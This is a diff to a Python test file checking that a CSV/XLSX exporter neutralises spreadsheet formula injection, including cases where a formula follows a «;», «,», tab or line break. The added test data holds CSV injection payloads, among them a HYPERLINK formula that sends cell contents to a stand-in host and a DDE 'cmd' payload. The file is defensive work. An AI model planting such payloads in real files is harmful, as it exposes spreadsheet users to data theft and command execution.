@@ -1,10 +1,12 @@
 """Exports never hand a spreadsheet a formula to run (OWASP CSV injection): text starting with =, +, -, @, tab or
-carriage return is neutralised in CSV and written as plain text in XLSX."""
+carriage return — or holding one after a «;», «,», tab or line break, where a spreadsheet splitting on it starts a new
+cell — is neutralised in CSV and written as plain text in XLSX."""
 
 from __future__ import annotations
 
 import csv
 import io
+import re
 import zipfile
 
 import polars as pl
@@ -23,13 +25,49 @@ DANGEROUS = [
     "\r=1+1",
     "=cmd|' /C calc'!A0",
 ]
+# A formula start inside the text, after what a spreadsheet may split a CSV line on (issue 29.9): Excel with a
+# Vietnamese list separator splits on «;», ignoring the quotes of a «,»-separated file.
+SPLIT = [
+    'Chi bộ A;=HYPERLINK("http://x.example/?d="&A1;"bấm")',
+    "x;=1+1;",
+    "Tổ 3; @SUM(A1:A9)",
+    "b,+1",
+    "c\n=1+1",
+    "d;\t-2+3",
+    "e\r\n=cmd|' /C calc'!A0",
+    'f;"=1+1"',  # Excel runs a quoted formula of a CSV too
+]
 SAFE = ["Chi bộ xóm Nà Phìa", "Đảng bộ (Thục Phán)", "1 + 1", "a=b", "e-mail", "", "'=đã trích"]
 COLS = [export.Col("name", "Tên"), export.Col("members", "Đảng viên", "int"), export.Col("value", "Tỉ lệ (%)", "pct")]
 
 
+_PIECE = re.compile(r"[;,\t\r\n]")
+
+
+def _pieces(text: str) -> list[str]:
+    """The cells a spreadsheet splitting on any of «;», «,», tab or line break makes of a text, leading spaces
+    dropped (LibreOffice may trim them) and an opening quote too."""
+    return [p.lstrip(' \t"') for p in _PIECE.split(text)]
+
+
+def _runs(cell: str) -> bool:
+    return cell.startswith(("=", "+", "@")) or (cell.startswith("-") and not _number(cell))
+
+
 @pytest.mark.parametrize("text", DANGEROUS)
 def test_neutralise_prefixes_formula_starts(text):
-    assert export.neutralise(text) == "'" + text
+    out = export.neutralise(text)
+    assert out.startswith("'") and out.replace("'", "") == text.replace("'", "")
+    assert not any(_runs(p) for p in _pieces(out)), out
+
+
+@pytest.mark.parametrize("text", SPLIT)
+def test_neutralise_covers_every_piece_a_spreadsheet_may_split_off(text):
+    """«x;=1+1» split on «;» is the cells «x» and «=1+1»: the second must not run either."""
+    assert any(_runs(p) for p in _pieces(text))  # the attack: one piece would run
+    out = export.neutralise(text)
+    assert not any(_runs(p) for p in _pieces(out)), out
+    assert out.replace("'", "") == text.replace("'", "")  # only apostrophes added: the text reads as typed
 
 
 @pytest.mark.parametrize("value", [*SAFE, 0, -5, 3.25, -0.5, None, True])
@@ -48,7 +86,8 @@ def test_csv_bytes_neutralised():
     rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))
     assert rows[0] == ["Tên", "Đảng viên", "Tỉ lệ (%)"]
     got = [r[0] for r in rows[1:]]
-    assert got == ["'" + n for n in DANGEROUS] + SAFE
+    assert got == [export.neutralise(n) for n in DANGEROUS] + SAFE
+    assert all(g.startswith("'") for g in got[: len(DANGEROUS)])
     # numbers are numbers, negative ones included: only text is neutralised
     assert [r[1] for r in rows[1:]] == [str(-3 + i) for i in range(len(names))]
     # no cell of the CSV starts a formula
@@ -70,8 +109,21 @@ def _sheet_xml(xlsx: bytes) -> str:
         return "".join(z.read(n).decode("utf-8") for n in z.namelist() if n.startswith("xl/worksheets/"))
 
 
+def test_csv_split_on_semicolons_runs_no_formula():
+    """The CSV as Excel with «;» as list separator reads it: each line cut at every «;» (quotes or not)."""
+    raw = export.table_csv(_frame(SPLIT + SAFE), COLS, ["Bộ lọc: xã A;=1+1"]).decode("utf-8-sig")
+    for sep in (";", ",", "\t"):
+        for line in raw.splitlines():
+            for cell in line.split(sep):
+                cell = cell.strip(' \t"')
+                assert not _runs(cell), (sep, line)
+    rows = list(csv.reader(io.StringIO(raw, newline="")))
+    header = rows.index(["Tên", "Đảng viên", "Tỉ lệ (%)"])
+    assert [r[0].replace("'", "") for r in rows[header + 1 :]] == [n.replace("'", "") for n in SPLIT + SAFE]
+
+
 def test_xlsx_writes_text_not_formulas():
-    names = DANGEROUS + SAFE
+    names = DANGEROUS + SPLIT + SAFE
     xlsx = export.table_xlsx(_frame(names), COLS, "Thử", "năm 2025; toàn tỉnh", "nguồn thử")
     assert "<f>" not in _sheet_xml(xlsx) and "<f " not in _sheet_xml(xlsx)
     rows = pc.CalamineWorkbook.from_filelike(io.BytesIO(xlsx)).get_sheet_by_name("Số liệu").to_python()
